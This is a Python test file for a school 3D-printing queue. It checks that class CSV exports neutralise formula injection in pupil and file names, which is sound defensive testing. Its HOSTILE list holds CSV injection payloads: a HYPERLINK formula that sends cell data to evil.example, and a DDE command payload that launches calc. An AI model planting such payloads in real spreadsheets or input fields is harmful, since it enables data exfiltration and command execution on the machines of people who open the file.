"""Class CSV export: pupils' names and file names can't become spreadsheet formulas."""

from __future__ import annotations

import csv
import io

from fabqueue.web.csv_export import safe_cell
from tests.conftest import Stack
from tests.helpers import cube_stl, english_client, zip_bytes

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+SUM(1,2)", "-2+3", "@SUM(A1:A9)",
           "\tTabbed", "\rReturn", "=cmd|' /C calc'!A0"]


def test_safe_cell_follows_owasp() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell("Ona Petraitytė") == "Ona Petraitytė"
    assert safe_cell(-2.5) == -2.5 and safe_cell(12) == 12  # our own numbers stay numbers


def test_class_export_neutralises_formulas(stack: Stack) -> None:
    client = english_client(stack)
    teacher = stack.token(client, stack.user("teacher", "kc"))
    names = io.StringIO()
    writer = csv.writer(names)
    writer.writerow(["file", "student"])
    files = {}
    for number, name in enumerate(HOSTILE):
        file = f"=f{number}.stl" if number % 2 else f"@f{number}.stl"
        files[f"class/{file}"] = cube_stl(10 + number)
        writer.writerow([file, name])
    files["students.csv"] = names.getvalue().encode()
    r = client.post("/api/batches", headers=teacher, data={"class_name": "7c",
                                                           "material": "PLA"},
                    files=[("files", ("class.zip", io.BytesIO(zip_bytes(files)),
                                      "application/zip"))])
    assert r.status_code == 201, r.text
    batch = r.json()
    stored = [name.strip() for name in HOSTILE]  # the import trims the tab and CR cases
    assert sorted(j["student_name"] for j in batch["jobs"]) == sorted(stored)
    export = client.get(f"/classes/{batch['id']}/export.csv", headers=teacher)
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(export.text.lstrip("\ufeff"))))
    pupils = sorted(row[0] for row in rows[1:])
    assert pupils == sorted(safe_cell(name) for name in stored)
    assert sum(p.startswith("'") for p in pupils) == 5
    assert all(row[1].startswith("'") for row in rows[1:])  # file names too
    assert all(row[2].isdigit() for row in rows[1:])  # job numbers untouched
